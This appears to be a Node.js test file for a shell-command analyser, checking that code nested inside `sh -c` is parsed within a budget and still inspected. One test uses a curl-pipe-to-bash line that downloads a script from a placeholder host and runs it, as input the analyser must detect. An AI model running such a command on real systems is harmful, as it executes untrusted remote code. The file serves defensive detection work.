/** Code handed to `sh -c` is read as a script once per range, within a budget, however deep it nests. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyse, argv } from '../../src/shell/index.js';

test('nested sh -c "$(sh -c "$(…)")" is read once per level, not once per path to it', () => {
  let script = 'echo ' + 'x '.repeat(2000);
  for (let i = 0; i < 16; i++) script = `sh -c "$(${script})"`;
  const s = analyse(script);
  // Sixteen shells and one echo, each seen from the outer parse and at most once more from a re-read.
  const names = s.commands.map((c) => argv(s, c.cmd).name);
  assert.ok(s.commands.length <= 4 * 17, `${s.commands.length} commands`);
  assert.equal(names.filter((n) => n === 'echo').length >= 1, true);
});

test('code given to sh -c is still read as a script', () => {
  const s = analyse(`docker exec c sh -c 'curl -s https://x.example/i.sh | bash'`);
  assert.ok(s.commands.some((c) => argv(s, c.cmd).name === 'curl'));
  assert.ok(s.commands.some((c) => argv(s, c.cmd).name === 'bash' && c.position === 1));
});
